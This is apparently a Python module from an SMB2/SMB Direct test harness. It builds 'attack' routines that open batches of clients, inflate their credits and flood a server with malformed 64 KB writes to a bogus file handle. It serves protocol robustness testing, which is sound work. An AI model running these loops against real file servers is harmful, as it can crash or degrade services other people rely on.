# SPDX-License-Identifier: MIT
"""What a hostile server (lib/hostile_server.py) can do to a worker, with a client's help. Each function is one
attack (lib/ground.py); the table is at the end."""

import contextlib
import struct

from lib import smb2
from lib.attacks_smb import unread_write
from lib.ground import ENDED
from lib.hostile_server import WAYS, guid_for


def attack(way):
    def run(g):
        def make():
            c = smb2.Client(g.smbdirect(), guid_for(way))
            c.timeout = 2
            c.negotiate((smb2.SMB_3_0_2,)).check()
            c.rpc(smb2.SESSION_SETUP, struct.pack("<HBBIIHHQ", 25, 0, 1, 1, 0, 88, 0, 0)).check()
            return c

        while not g.over():
            clients = g.many(6, make)
            for c in clients:
                with contextlib.suppress(*ENDED, AssertionError):
                    c.credits = 500
                    for n in range(8):
                        if n % 2:
                            unread_write(c, 65536, (0, 7, 65536))
                        else:
                            c.send_write(b"\xff" * 16, bytes(60000), 0)
                        g.did += 1
            for c in clients:
                with contextlib.suppress(*ENDED, AssertionError):
                    c.transport.pump(0.1)
            g.rest(0.1)
            g.drop()

    run.__name__ = f"server_{way}"
    run.__doc__ = WAYS[way].__doc__
    return run


ATTACKS = [attack(way) for way in WAYS]
